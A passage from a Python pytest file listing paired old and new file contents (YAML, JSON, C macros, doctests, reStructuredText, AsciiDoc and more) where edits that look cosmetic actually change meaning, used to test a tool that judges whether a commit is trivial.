"""Meaningful changes that once passed for trivial (a red-team review): each stays significant.

Each case is a real two-commit repository: the old content, then the new one.
"""

from pathlib import Path

import pytest
from manifests import files_by_path, manifest_of
from repos import before_and_after, git, two_commits

KEYS = "".join(f'  "k{i}": {i},\n' for i in range(12))
YAML_KEYS = "".join(f"k{i}: {i}\n" for i in range(12))
STEPS = "".join(f"STEP_{i} = {i}\n" for i in range(10))

NBSP_COMMAND = "pip\u00a0install foo"

TRAPS: list[tuple[str, str, str, str]] = [
    # (what, path, old, new)
    (
        "two hunks with duplicate JSON keys change a value together",
        "config.json",
        '{\n  "timeout": 30,\n' + KEYS + '  "timeout": 30\n}\n',
        '{\n  "timeout": 3000,\n' + KEYS.rstrip(",\n") + "\n}\n",
    ),
    (
        "two hunks with duplicate YAML keys change a value together",
        "deploy.yml",
        "replicas: 1\n" + YAML_KEYS + "replicas: 1\n",
        "replicas: 0\n" + YAML_KEYS,
    ),
    (
        "imports binding the same name swapped",
        "app.py",
        "from a import x\nfrom b import x\n\nprint(x)\n",
        "from b import x\nfrom a import x\n\nprint(x)\n",
    ),
    (
        "star imports swapped",
        "app.py",
        "from a import *\nfrom b import *\n",
        "from b import *\nfrom a import *\n",
    ),
    (
        "a __future__ import moved down",
        "app.py",
        "from __future__ import annotations\nimport os\n",
        "import os\nfrom __future__ import annotations\n",
    ),
    (
        "a fallback import inside try swapped",
        "app.py",
        "try:\n    import json\n    import simplejson as json\nexcept ImportError:\n    pass\n",
        "try:\n    import simplejson as json\n    import json\nexcept ImportError:\n    pass\n",
    ),
    ("a YAML key true became 1", "workflow.yml", "on: push\n", "1: push\n"),
    (
        "YAML 1.1 yes/no/on read as booleans",
        "settings.yml",
        "country: no\nenabled: on\n",
        "country: false\nenabled: true\n",
    ),
    ("a YAML octal", "mode.yml", "mode: 010\n", "mode: 8\n"),
    # A blank line under a comment about the next line uncovers that line (found by
    # an adversarial review: Flow's and cppcheck's were `blank-lines`).
    (
        "a blank line under a $FlowFixMe",
        "a.js",
        'const a = 1;\n// $FlowFixMe\nconst b: number = "x";\n',
        'const a = 1;\n// $FlowFixMe\n\nconst b: number = "x";\n',
    ),
    (
        "a blank line under a cppcheck-suppress",
        "a.c",
        "int f(int *p) {\n  // cppcheck-suppress nullPointer\n  return *p;\n}\n",
        "int f(int *p) {\n  // cppcheck-suppress nullPointer\n\n  return *p;\n}\n",
    ),
    # reStructuredText literal blocks (found by an adversarial review).
    (
        "spaces in a quoted literal block",
        "quoted.rst",
        "Title\n=====\n\nExample::\n\n> a  \n> b  c\n",
        "Title\n=====\n\nExample::\n\n> a\n> b c\n",
    ),
    (
        "a blank line added inside an indented literal block",
        "indented.rst",
        "Title\n=====\n\nExample::\n\n    a\n\n    b\n",
        "Title\n=====\n\nExample::\n\n    a\n\n\n    b\n",
    ),
    # Keys that are one under YAML 1.1 (a boolean, an octal), two under 1.2: their
    # values swapped pass for key order (found by an adversarial review).
    (
        "YAML 1.1 boolean keys swapped",
        "answers.yml",
        "answers:\n  yes: Oui\n  on: Allume\n",
        "answers:\n  on: Oui\n  yes: Allume\n",
    ),
    ("YAML 1.1 octal and decimal keys swapped", "keys.yml", "010: a\n8: b\n", "8: a\n010: b\n"),
    ("a YAML version directive", "v2.yml", "%YAML 1.1\n---\na: yes\n", "%YAML 1.2\n---\na: yes\n"),
    ("a YAML 1.2 octal quoted (a number to a 1.2 reader)", "v.yml", "v: 0o14\n", "v: '0o14'\n"),
    ("a YAML exponent quoted (a number to a 1.2 reader)", "e.yml", "e: 1e3\n", 'e: "1e3"\n'),
    (
        "the same instant in another time zone",
        "when.yml",
        "at: 2001-12-14T21:59:43-05:00\n",
        "at: 2001-12-15T02:59:43Z\n",
    ),
    ("minus zero", "zero.json", '{"x": -0.0}\n', '{"x": 0.0}\n'),
    (
        "pip requirements joined on one line (no prose: pip refuses it)",
        "requirements.txt",
        "flask>=2.0\nrequests>=2.0\nclick>=8.0\n",
        "flask>=2.0 requests>=2.0\nclick>=8.0\n",
    ),
    (
        "spacing in a CMake string",
        "CMakeLists.txt",
        'project(demo)\nmessage(STATUS "Hello  world")\n',
        'project(demo)\nmessage(STATUS "Hello world")\n',
    ),
    (
        "a word in robots.txt",
        "robots.txt",
        "User-agent: *\nDisallow: /privat\n",
        "User-agent: *\nDisallow: /private\n",
    ),
    (
        "a JSON key named twice (readers keep the first, the last, or refuse)",
        "twice.json",
        '{"a": 2, "b": 0}\n',
        '{"b": 0, "a": 1, "a": 2}\n',
    ),
    ("JSON minus zero written as an integer", "zero.json", '{"x": -0}\n', '{"x": 0}\n'),
    (
        "package.json exports tried in order",
        "package.json",
        '{"exports": {"import": "./a.mjs", "default": "./a.cjs"}}\n',
        '{"exports": {"default": "./a.cjs", "import": "./a.mjs"}}\n',
    ),
    (
        "Jest's moduleNameMapper tried in order (any JSON object's order may be read)",
        "jest.config.json",
        '{"moduleNameMapper": {"^@/config$": "<rootDir>/mock.js", "^@/(.*)$": "<rootDir>/$1"}}\n',
        '{"moduleNameMapper": {"^@/(.*)$": "<rootDir>/$1", "^@/config$": "<rootDir>/mock.js"}}\n',
    ),
    (
        "a JSON number a double rounds alike",
        "prices.json",
        '{"p": 19.999999999999999999}\n',
        '{"p": 20.0}\n',
    ),
    (
        "a TOML float a double rounds alike",
        "prices.toml",
        "p = 19.999999999999999999\n",
        "p = 20.0\n",
    ),
    (
        "a blank line between an ESLint next-line directive and its line",
        "run.js",
        "function f(s) {\n  // eslint-disable-next-line no-eval\n  return eval(s);\n}\n",
        "function f(s) {\n  // eslint-disable-next-line no-eval\n\n  return eval(s);\n}\n",
    ),
    (
        "a blank line after pylint's disable-next",
        "imports.py",
        "# pylint: disable-next=unused-import\nimport os\n",
        "# pylint: disable-next=unused-import\n\nimport os\n",
    ),
    (
        "a blank line between a Go doc comment and its function",
        "sum.go",
        "package sum\n\n// Sum adds.\n//\n// Deprecated: use Add.\nfunc Sum() int { return 1 }\n",
        "package sum\n\n// Sum adds.\n//\n// Deprecated: use Add.\n\nfunc Sum() int { return 1 }\n",
    ),
    (
        "a blank line removed between a Go comment and a function (now its doc)",
        "sum.go",
        "package sum\n\n// TODO: remove.\n\nfunc Sum(a, b int) int { return a + b }\n",
        "package sum\n\n// TODO: remove.\nfunc Sum(a, b int) int { return a + b }\n",
    ),
    (
        "a typo fixed in a Go example's expected output (go test compares it)",
        "hello_test.go",
        'package ex\n\nimport "fmt"\n\nfunc ExampleHello() {\n\tfmt.Println("recieve")\n'
        "\t// Output:\n\t// recieve\n}\n",
        'package ex\n\nimport "fmt"\n\nfunc ExampleHello() {\n\tfmt.Println("recieve")\n'
        "\t// Output:\n\t// receive\n}\n",
    ),
    (
        "a typo fixed in a Go example's lower-case `// output:` (go/doc reads any case)",
        "upload_test.go",
        "package ex\n\nfunc ExampleReport() {\n\tReport(true)\n\t// output:\n"
        "\t// upload succesful\n}\n",
        "package ex\n\nfunc ExampleReport() {\n\tReport(true)\n\t// output:\n"
        "\t// upload successful\n}\n",
    ),
    (
        "a typo fixed in a clap field's doc comment (its --help text)",
        "src/main.rs",
        "use clap::Parser;\n\n#[derive(Parser)]\nstruct Cli {\n    /// Remove abandonned uploads\n"
        "    #[arg(long)]\n    prune: bool,\n}\n",
        "use clap::Parser;\n\n#[derive(Parser)]\nstruct Cli {\n    /// Remove abandoned uploads\n"
        "    #[arg(long)]\n    prune: bool,\n}\n",
    ),
    (
        "a typo fixed in a constant's comment that stringer -linecomment makes its String()",
        "state.go",
        "package state\n\n//go:generate stringer -type=State -linecomment\n\ntype State int\n\n"
        "const (\n\tPending State = iota // pending\n\tReceived // recieved\n)\n",
        "package state\n\n//go:generate stringer -type=State -linecomment\n\ntype State int\n\n"
        "const (\n\tPending State = iota // pending\n\tReceived // received\n)\n",
    ),
    (
        "a typo fixed in a displaydoc error's doc comment (its Display text)",
        "src/error.rs",
        "#[derive(Debug, displaydoc::Display)]\npub enum Error {\n    /// upload not recieved\n"
        "    Missing,\n}\n",
        "#[derive(Debug, displaydoc::Display)]\npub enum Error {\n    /// upload not received\n"
        "    Missing,\n}\n",
    ),
    (
        "the spacing of a doctest's expected output in a text file (python -m doctest)",
        "examples.txt",
        'Examples, checked with python -m doctest.\n\n>>> print("a  b")\na  b\n',
        'Examples, checked with python -m doctest.\n\n>>> print("a  b")\na b\n',
    ),
    (
        "a trailing space of a doctest's expected output in a text file",
        "examples.rst",
        'Examples, checked with python -m doctest.\n\n>>> print("ab ")\nab \n',
        'Examples, checked with python -m doctest.\n\n>>> print("ab ")\nab\n',
    ),
    (
        "a typo fixed in a doctest's expected output in a text file",
        "examples.txt",
        'Examples, checked with python -m doctest.\n\n>>> print("recieve")\nrecieve\n',
        'Examples, checked with python -m doctest.\n\n>>> print("recieve")\nreceive\n',
    ),
    (
        "a setext heading re-wrapped (its anchor is made from its text)",
        "doc.md",
        "Some intro paragraph that is long enough to matter here.\n\n"
        "Install the tool\n================\n\nRun the installer.\n",
        "Some intro paragraph that is long enough to matter here.\n\n"
        "Install the\ntool\n================\n\nRun the installer.\n",
    ),
    (
        "the indentation of a line a backslash and a space splice to the one above",
        "divide.c",
        "int f(int a, int *p) {\n  return a /\\ \n*p /* divide */;\n}\n",
        "int f(int a, int *p) {\n  return a /\\ \n *p /* divide */;\n}\n",
    ),
    (
        "a digraph #define's spacing (%:define F (x) is no function-like macro)",
        "digraph.c",
        "%:define F(x) ((x)+1)\nint g(void) { return F(1); }\n",
        "%:define F (x) ((x)+1)\nint g(void) { return F(1); }\n",
    ),
    (
        "the spacing of a one-letter macro's argument, the macro defined in another file",
        "one.c",
        '#include "s.h"\nconst char *s = S(a+b);\n',
        '#include "s.h"\nconst char *s = S(a + b);\n',
    ),
    (
        "a trailing space inside a Markdown code span that goes on to the next line",
        "span.md",
        "Intro paragraph that is long enough to stand on its own here.\n\n"
        'Run `printf "%s \nok"` to see it.\n',
        "Intro paragraph that is long enough to stand on its own here.\n\n"
        'Run `printf "%s\nok"` to see it.\n',
    ),
    (
        "two spaces inside an RST inline literal (docutils shows them)",
        "guide.rst",
        "Intro paragraph that is long enough to stand on its own here.\n\n"
        "The header is ``Name  Size`` in the output.\n",
        "Intro paragraph that is long enough to stand on its own here.\n\n"
        "The header is ``Name Size`` in the output.\n",
    ),
    (
        "a sitemap's URLs joined onto one line (one URL a line)",
        "sitemap.txt",
        "https://example.org/a/first-page-of-the-site\nhttps://example.org/b/second-page\n",
        "https://example.org/a/first-page-of-the-site https://example.org/b/second-page\n",
    ),
    (
        "composer.json repositories tried in order",
        "composer.json",
        '{"repositories": {"mirror": {"type": "composer", "url": "https://m.example"},'
        ' "private": {"type": "vcs", "url": "https://git.example/a"}}}\n',
        '{"repositories": {"private": {"type": "vcs", "url": "https://git.example/a"},'
        ' "mirror": {"type": "composer", "url": "https://m.example"}}}\n',
    ),
    (
        "the spacing of a macro's argument, the macro defined in another file",
        "use.c",
        '#include "show.h"\nconst char *s = SHOW(a+b);\n',
        '#include "show.h"\nconst char *s = SHOW(a + b);\n',
    ),
    (
        "the spacing of a macro's argument on a line below the macro's name",
        "wrapped.c",
        '#include "show.h"\nconst char *s = SHOW(first,\n                     a+b);\n',
        '#include "show.h"\nconst char *s = SHOW(first,\n                     a + b);\n',
    ),
    (
        "the spacing of an assert's condition (its message quotes it)",
        "check.c",
        "#include <assert.h>\nvoid f(int a) { assert(a>0); }\n",
        "#include <assert.h>\nvoid f(int a) { assert(a > 0); }\n",
    ),
    (
        "the spacing of a Rust macro's argument",
        "main.rs",
        "fn main() {\n    let s = show!(a+b);\n}\n",
        "fn main() {\n    let s = show!(a + b);\n}\n",
    ),
    (
        "the spacing of a Go example's expected output",
        "show_test.go",
        'package show\n\nimport "fmt"\n\nfunc ExampleShow() {\n\tfmt.Println("a  b")\n'
        "\t// Output: a  b\n}\n",
        'package show\n\nimport "fmt"\n\nfunc ExampleShow() {\n\tfmt.Println("a  b")\n'
        "\t// Output: a b\n}\n",
    ),
    # Found by a fifth adversarial review (Python): each was trivial.
    (
        "a type comment's marker doubled (`## type: ignore` is no type comment)",
        "num.py",
        "def parse(text: str) -> int:\n    value: int = text  # type: ignore\n    return value\n",
        "def parse(text: str) -> int:\n    value: int = text  ## type: ignore\n    return value\n",
    ),
    # Once called formatting (a comment on a statement's first line stays where
    # formatters keep it), found wrong by a sixth review: mypy reports the argument's
    # line, which the `# type: ignore` no longer covers.
    (
        "a statement split below its `# type: ignore`",
        "fifth.py",
        "def fifth(values):\n    checked = validate(values, 1)  # type: ignore[arg-type]\n"
        "    return checked\n",
        "def fifth(values):\n    checked = validate(  # type: ignore[arg-type]\n"
        "        values, 1\n    )\n    return checked\n",
    ),
    (
        "two spaces after a noqa comment's colon (flake8 then ignores every code)",
        "m.py",
        "import sys  # noqa: E501\n",
        "import sys  # noqa:  E501\n",
    ),
    (
        "a no-break space in a noqa comment (flake8 no longer reads it)",
        "m.py",
        "def area(w, h):\n    l = w * h  # noqa: E741\n    return l\n",
        "def area(w, h):\n    l = w * h  #\u00a0noqa: E741\n    return l\n",
    ),
    (
        "the indentation of a literal block in Sphinx's `#:` comment",
        "settings.py",
        "#: Example::\n#:\n#:     retry(times=3,\n#:           backoff=2)\nRETRY = 3\n",
        "#: Example::\n#:\n#: retry(times=3,\n#: backoff=2)\nRETRY = 3\n",
    ),
    (
        "a trailing `#:` comment moved to the first line of its statement",
        "settings.py",
        "TIMEOUTS = [\n    10,\n    30,\n]  #: Seconds to wait before each retry.\n",
        "TIMEOUTS = [  #: Seconds to wait before each retry.\n    10,\n    30,\n]\n",
    ),
    (
        "two trailing spaces dropped from a docstring's line (a Markdown line break)",
        "api.py",
        'def connect():\n    """Connect.\n\n    Host: the name  \n    Port: the port\n    """\n',
        'def connect():\n    """Connect.\n\n    Host: the name\n    Port: the port\n    """\n',
    ),
    (
        "two context managers put in brackets (a tuple before Python 3.9)",
        "bank.py",
        "def move(lock_a, lock_b):\n    with lock_a, lock_b:\n        return 1\n",
        "def move(lock_a, lock_b):\n    with (lock_a, lock_b):\n        return 1\n",
    ),
    # Found by a seventh, short review of this round's code: each was trivial.
    (
        "a `with` continued by a backslash put in brackets (a tuple before Python 3.9)",
        "w.py",
        "def move(a, b):\n    with \\\n            a, b:\n        return 1\n",
        "def move(a, b):\n    with (a, b):\n        return 1\n",
    ),
    (
        "`with (a), b:` made `with (a, b):`",
        "w.py",
        "def move(a, b):\n    with (a), b:\n        return 1\n",
        "def move(a, b):\n    with (a, b):\n        return 1\n",
    ),
    (
        "a tab in PEP 723 script metadata of a file with CRLF line ends",
        "a.py",
        '# /// script\r\n# dependencies = [\r\n#   "requests",\r\n# ]\r\n# ///\r\n'
        "import requests\r\n",
        '# /// script\r\n#\tdependencies = [\r\n#   "requests",\r\n# ]\r\n# ///\r\n'
        "import requests\r\n",
    ),
    (
        "two trailing spaces dropped from a JSDoc line of a file with CRLF line ends",
        "a.js",
        "/**\r\n * First line  \r\n * second line\r\n */\r\nexport function f() { return 1; }\r\n",
        "/**\r\n * First line\r\n * second line\r\n */\r\nexport function f() { return 1; }\r\n",
    ),
    (
        "the spacing of a macro's argument below a comment holding a bracket",
        "a.c",
        '#include "check.h"\nvoid f(int a, int b) {\n    CHECK(a,   /* smile :) */\n'
        "          a+b);\n}\n",
        '#include "check.h"\nvoid f(int a, int b) {\n    CHECK(a,   /* smile :) */\n'
        "          a + b);\n}\n",
    ),
    (
        "a blank line inside Hexo's codeblock",
        "a.md",
        "Intro.\n\n{% codeblock lang:python %}\ndef f():\n    a = 1\n\n\n    return a\n"
        "{% endcodeblock %}\n\nEnd.\n",
        "Intro.\n\n{% codeblock lang:python %}\ndef f():\n    a = 1\n\n    return a\n"
        "{% endcodeblock %}\n\nEnd.\n",
    ),
    (
        "a blank line inside a template block opened after another closed on its line",
        "a.md",
        "Intro.\n\n{% raw %}{% endraw %} {% highlight python %}\na = 1\n\n\nb = 2\n"
        "{% endhighlight %}\n",
        "Intro.\n\n{% raw %}{% endraw %} {% highlight python %}\na = 1\n\nb = 2\n"
        "{% endhighlight %}\n",
    ),
    (
        "a Python file in UTF-7 respaced (`a +-b` is `a + b` there)",
        "calc.py",
        "# coding: utf-7\na, b = 5, 3\nprint(a +-b)\n",
        "# coding: utf-7\na, b = 5, 3\nprint(a + (-b))\n",
    ),
    (
        "Sphinx's `#:` attribute documentation made `# :`",
        "settings.py",
        'class Settings:\n    """Settings."""\n\n    #: Seconds to wait.\n    timeout = 30\n',
        'class Settings:\n    """Settings."""\n\n    # : Seconds to wait.\n    timeout = 30\n',
    ),
    (
        "a doctest moved onto the docstring's first line (doctest counts its indentation)",
        "dbl.py",
        'def double(n):\n    """\n    >>> double(2)\n    4\n    """\n    return n * 2\n',
        'def double(n):\n    """>>> double(2)\n    4\n    """\n    return n * 2\n',
    ),
    (
        "a docstring re-indented in a module that reads __doc__ as written",
        "copy.py",
        '"""Copy files.\n\nExamples:\n  copy.py a host:/tmp\n"""\nimport argparse\n\n'
        "parser = argparse.ArgumentParser(description=__doc__)\n",
        '"""Copy files.\n\n    Examples:\n      copy.py a host:/tmp\n"""\nimport argparse\n\n'
        "parser = argparse.ArgumentParser(description=__doc__)\n",
    ),
    (
        "a blank line between Sphinx's `#:` comment and its attribute",
        "settings.py",
        'class Settings:\n    """Settings."""\n\n    #: Seconds to wait.\n    timeout = 30\n',
        'class Settings:\n    """Settings."""\n\n    #: Seconds to wait.\n\n    timeout = 30\n',
    ),
    (
        "a blank line between a comment and the function it documents (inspect.getcomments)",
        "fw.py",
        "import os\n\n\n# The checksum of the payload.\ndef checksum(payload):\n    return 1\n",
        "import os\n\n\n# The checksum of the payload.\n\ndef checksum(payload):\n    return 1\n",
    ),
    (
        "a blank line inside PEP 723 script metadata (uv then reads none)",
        "hello.py",
        '# /// script\n# requires-python = ">=3.11"\n# dependencies = ["rich"]\n# ///\n'
        "import rich\n",
        '# /// script\n# requires-python = ">=3.11"\n\n# dependencies = ["rich"]\n# ///\n'
        "import rich\n",
    ),
    (
        "a space in PEP 723 script metadata's closing line",
        "hello.py",
        '# /// script\n# dependencies = ["rich"]\n# ///\nimport rich\n',
        '# /// script\n# dependencies = ["rich"]\n#  ///\nimport rich\n',
    ),
    # Found by a fifth adversarial review (other kinds): each was trivial.
    (
        "a Go /* */ package doc's code block line made a paragraph",
        "doc.go",
        "/*\nPackage foo does things.\n\n\tfoo -v file\n\nMore text.\n*/\npackage foo\n",
        "/*\nPackage foo does things.\n\nfoo -v file\n\nMore text.\n*/\npackage foo\n",
    ),
    (
        "the spacing inside a Go doc comment's code block",
        "x.go",
        "// Package x does things.\n//\n//\tname    value\npackage x\n",
        "// Package x does things.\n//\n//\tname value\npackage x\n",
    ),
    (
        "the spacing inside a Javadoc <pre>",
        "A.java",
        "/**\n * Sizes:\n * <pre>\n * small    1\n * large   10\n * </pre>\n */\nclass A {}\n",
        "/**\n * Sizes:\n * <pre>\n * small 1\n * large   10\n * </pre>\n */\nclass A {}\n",
    ),
    (
        "a space made a tab in a Rust doctest",
        "src/lib.rs",
        "/// ```\n/// let c = ' ';\n/// assert_eq!(c as u32, 32);\n/// ```\npub fn f() {}\n",
        "/// ```\n/// let c = '\t';\n/// assert_eq!(c as u32, 32);\n/// ```\npub fn f() {}\n",
    ),
    (
        "the spacing inside a JSDoc @example",
        "a.ts",
        "/**\n * Adds.\n * @example\n * add(1,  2)   // 3\n */\nexport function add() {}\n",
        "/**\n * Adds.\n * @example\n * add(1, 2) // 3\n */\nexport function add() {}\n",
    ),
    (
        "the spacing inside a C# doc comment's <code>",
        "A.cs",
        "class A {\n    /// <code>\n    /// var x  =  Foo(1,  2);\n    /// </code>\n"
        "    public void F() {}\n}\n",
        "class A {\n    /// <code>\n    /// var x = Foo(1, 2);\n    /// </code>\n"
        "    public void F() {}\n}\n",
    ),
    (
        "two lines of Hugo's TOML front matter joined (a TOML error)",
        "a.md",
        '+++\ntitle = "Hello"\nweight = 2\n+++\n\nBody.\n',
        '+++\ntitle = "Hello" weight = 2\n+++\n\nBody.\n',
    ),
    (
        "a blank line inside a TOML front matter string",
        "a.md",
        '+++\ntitle = "x"\ndescription = """\na\n\nb"""\n+++\n\nBody.\n',
        '+++\ntitle = "x"\ndescription = """\na\n\n\nb"""\n+++\n\nBody.\n',
    ),
    (
        "a blank line inside a block scalar of YAML front matter after a byte order mark",
        "a.md",
        "\ufeff---\ntitle: x\nsummary: |\n  a\n\n  b\n---\n\nBody.\n",
        "\ufeff---\ntitle: x\nsummary: |\n  a\n\n\n  b\n---\n\nBody.\n",
    ),
    (
        "a blank line inside an MDX template literal",
        "a.mdx",
        "export const poem = `roses are red\n\nviolets are blue`\n\n# Title\n\n{poem}\n",
        "export const poem = `roses are red\n\n\nviolets are blue`\n\n# Title\n\n{poem}\n",
    ),
    (
        "a blank line after a comment ending in the trigraph ??/ (a line splice)",
        "a.c",
        "int f(void) {\n  int x = 1;\n  // note ??/\n\n  x = 2;\n  return x;\n}\n",
        "int f(void) {\n  int x = 1;\n  // note ??/\n  x = 2;\n  return x;\n}\n",
    ),
    (
        "the spacing of a golden file tests compare byte for byte",
        "testdata/golden.txt",
        "hello  world\n",
        "hello world\n",
    ),
    (
        "a formatter's test input in a fixtures folder (still read as Python)",
        "tests/fixtures/input.py",
        "values = [1,2]\n",
        "values = [1, 2]\n",
    ),
    (
        "an expected output in Maven's test resources",
        "src/test/resources/expected-user.json",
        '{"name":"a"}\n',
        '{"name": "a"}\n',
    ),
    (
        "a jscodeshift test's expected output",
        "transforms/__testfixtures__/args.output.js",
        "foo(1,2);\n",
        "foo(1, 2);\n",
    ),
    (
        "the spacing of a Meson option's value",
        "meson_options.txt",
        "option('greeting', type : 'string', value : 'Hello  World')\n",
        "option('greeting', type : 'string', value : 'Hello World')\n",
    ),
    (
        "the two spaces that end a reStructuredText option",
        "a.rst",
        "Options\n\n-a  Output all.\n-b  Output both.\n",
        "Options\n\n-a Output all.\n-b  Output both.\n",
    ),
    (
        "the spacing of an AsciiDoc [literal] paragraph",
        "a.adoc",
        "= Doc\n\n[literal]\na  b\nc    d\n",
        "= Doc\n\n[literal]\na b\nc    d\n",
    ),
    (
        "the spacing of an AsciiDoc [source] paragraph",
        "a.adoc",
        '= Doc\n\n[source,python]\nprint("a  b")\n\nAfter.\n',
        '= Doc\n\n[source,python]\nprint("a b")\n\nAfter.\n',
    ),
    (
        "the spacing of an AsciiDoc verse block",
        "a.adoc",
        "= Doc\n\n[verse]\n____\nThe fog comes\non little cat feet.\n____\n",
        "= Doc\n\n[verse]\n____\nThe fog   comes\non little cat feet.\n____\n",
    ),
    (
        "an AsciiDoc [%hardbreaks] paragraph re-wrapped",
        "a.adoc",
        "= Doc\n\n[%hardbreaks]\nRuby is red.\nJava is black.\n",
        "= Doc\n\n[%hardbreaks]\nRuby is\nred. Java is black.\n",
    ),
    (
        "a paragraph re-wrapped in an AsciiDoc document with :hardbreaks:",
        "a.adoc",
        "= Doc\n:hardbreaks:\n\nRuby is red.\nJava is black.\n",
        "= Doc\n:hardbreaks:\n\nRuby is\nred. Java is black.\n",
    ),
    (
        "two lines of Hugo's highlighted code joined",
        "content/a.md",
        '# Title\n\n{{< highlight python >}}\nprint("one")\nprint("two")\n{{< /highlight >}}\n',
        '# Title\n\n{{< highlight python >}}\nprint("one") print("two")\n{{< /highlight >}}\n',
    ),
    (
        "a blank line inside Jekyll's highlighted code",
        "a.md",
        "# Doc\n\n{% highlight python %}\nx = 1\n\ny = 2\n{% endhighlight %}\n",
        "# Doc\n\n{% highlight python %}\nx = 1\n\n\ny = 2\n{% endhighlight %}\n",
    ),
    (
        "two lines of display math joined (a % then comments out the second)",
        "a.md",
        "# Doc\n\n$$\nx = 1 % the first term\ny = 2\n$$\n",
        "# Doc\n\n$$\nx = 1 % the first term y = 2\n$$\n",
    ),
    # Found by a sixth adversarial review (other kinds): each was trivial.
    (
        "the spacing of a macro's argument, its bracket on the line below its name",
        "main.c",
        '#include "show.h"\nint main(void) {\n  SHOW\n    (a+b);\n}\n',
        '#include "show.h"\nint main(void) {\n  SHOW\n    (a + b);\n}\n',
    ),
    (
        "the spacing of a macro's argument, a comment between its name and bracket",
        "main.c",
        '#include "show.h"\nint main(void) {\n  SHOW /**/ (a+b);\n}\n',
        '#include "show.h"\nint main(void) {\n  SHOW /**/ (a + b);\n}\n',
    ),
    (
        "the spacing of a macro's argument below a string holding a bracket",
        "main.c",
        '#include "show.h"\nint main(void) {\n  SHOW2(")",\n    a+b);\n}\n',
        '#include "show.h"\nint main(void) {\n  SHOW2(")",\n    a + b);\n}\n',
    ),
    (
        "the spacing of a Rust macro's argument, `!` and bracket apart",
        "src/main.rs",
        "fn main() {\n    show ! (a+1);\n}\n",
        "fn main() {\n    show ! (a + 1);\n}\n",
    ),
    (
        "a #define after a comment made function-like",
        "main.c",
        "int x = 1, v = 2;\n/* pick one */ #define v (x)\nint y = v;\n",
        "int x = 1, v = 2;\n/* pick one */ #define v(x)\nint y = v;\n",
    ),
    (
        "the spacing of GCC's fall-through comment (its pattern allows one space)",
        "f.c",
        "int f(int a) {\n  switch (a) {\n  case 1:\n    a++;\n    /* Falls through.  */\n"
        "  case 2:\n    return a;\n  }\n  return 0;\n}\n",
        "int f(int a) {\n  switch (a) {\n  case 1:\n    a++;\n    /* Falls  through.  */\n"
        "  case 2:\n    return a;\n  }\n  return 0;\n}\n",
    ),
    (
        "the spacing of a string after a comment holding a quote in tsconfig.json",
        "tsconfig.json",
        '{\n  "compilerOptions": {\n    /* see "docs */ "outDir": "build  out"\n  }\n}\n',
        '{\n  "compilerOptions": {\n    /* see "docs */ "outDir": "build out"\n  }\n}\n',
    ),
    (
        "a GitHub Actions matrix's variables swapped (the jobs are made in their order)",
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n"
        "        python: ['3.12']\n    runs-on: ubuntu-latest\n",
        "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        python: ['3.12']\n"
        "        os: [ubuntu-latest]\n    runs-on: ubuntu-latest\n",
    ),
    (
        "a project's scripts swapped in pyproject.toml",
        "pyproject.toml",
        '[project]\nname = "x"\n\n[project.scripts]\nserve = "x:serve"\nstop = "x:stop"\n',
        '[project]\nname = "x"\n\n[project.scripts]\nstop = "x:stop"\nserve = "x:serve"\n',
    ),
    (
        "a trailing space on the middle line of a code span over three lines",
        "doc.md",
        "# Doc\n\nRun `printf\nhello \nworld` now.\n",
        "# Doc\n\nRun `printf\nhello\nworld` now.\n",
    ),
    (
        "two trailing spaces dropped from a Rust doc comment (a line break)",
        "src/lib.rs",
        "/// Adds one to the number.  \n/// Then returns it.\npub fn f() {}\n",
        "/// Adds one to the number.\n/// Then returns it.\npub fn f() {}\n",
    ),
    (
        "two spaces in a reStructuredText :literal: role",
        "doc.rst",
        "Title\n=====\n\nRun :literal:`ls  -l` now.\n",
        "Title\n=====\n\nRun :literal:`ls -l` now.\n",
    ),
    (
        "two spaces on the middle line of a reStructuredText inline literal",
        "doc.rst",
        "Title\n=====\n\nRun ``ls\nfoo  bar\nbaz`` now.\n",
        "Title\n=====\n\nRun ``ls\nfoo bar\nbaz`` now.\n",
    ),
    (
        "a reStructuredText title respaced past its underline",
        "doc.rst",
        "Title text\n==========\n\nBody.\n",
        "Title    text\n==========\n\nBody.\n",
    ),
    (
        "a Markdown line re-wrapped to start with `: ` (a definition in Hugo)",
        "content/doc.md",
        "# Doc\n\nMix flour and water in the ratio 3 : 4 for\nbread, or 1 : 1 for batter.\n",
        "# Doc\n\nMix flour and water in the ratio 3\n: 4 for bread, or 1 : 1 for batter.\n",
    ),
    (
        "an AsciiDoc paragraph re-wrapped around `;;` (a description list)",
        "doc.adoc",
        "= Doc\n\nWe go on with more words about the ratio a;;\nb that we use.\n",
        "= Doc\n\nWe go on with more words about the ratio\na;; b that we use.\n",
    ),
    (
        # Found by an eleventh adversarial review: the item's text column is where its
        # body's lines start; narrowed, `in production.` became a definition.
        "the gap after an RST bullet narrowed above the item's continued line",
        "usage.rst",
        "Usage\n=====\n\n-  Do not run as root\n   in production.\n#.  Install it\n    with pip.\n",
        "Usage\n=====\n\n- Do not run as root\n   in production.\n#. Install it\n    with pip.\n",
    ),
    (
        "the gap after an RST auto-enumerator `#)` widened above its continued line",
        "steps.rst",
        "Steps\n=====\n\n#) Install it\n   with pip.\n",
        "Steps\n=====\n\n#)  Install it\n   with pip.\n",
    ),
    (
        "a blank line above a line printing __LINE__",
        "line.c",
        '#include <stdio.h>\nint main(void) {\n  printf("line %d\\n", __LINE__);\n}\n',
        '#include <stdio.h>\n\nint main(void) {\n  printf("line %d\\n", __LINE__);\n}\n',
    ),
    (
        "a stringizing C macro's argument spacing",
        "show.c",
        "#define S(x) #x\nconst char *s = S(a+b);\n",
        "#define S(x) #x\nconst char *s = S(a + b);\n",
    ),
    (
        # Found by an eleventh adversarial review: `#x` on a continued line of the body,
        # the macro named below `#define \`.
        "a stringizing C macro's argument spacing, `#x` on a continued line",
        "show.c",
        "#define \\\n  show(x) \\\n  #x\nconst char *s = show(a+b);\n",
        "#define \\\n  show(x) \\\n  #x\nconst char *s = show(a + b);\n",
    ),
    (
        # A review of the fix: `#x` at a continued line's start, a space after the `\`.
        # Its argument's spacing past the lines a call is looked for above.
        "a stringizing macro's `#x` at the start of a continued line",
        "show.c",
        "#define show(...) \\ \n#__VA_ARGS__\nconst char *s = show(\n"
        + "  1,\n" * 33
        + "  a+b);\n",
        "#define show(...) \\ \n#__VA_ARGS__\nconst char *s = show(\n"
        + "  1,\n" * 33
        + "  a + b);\n",
    ),
    (
        "Rust stringify! argument spacing",
        "main.rs",
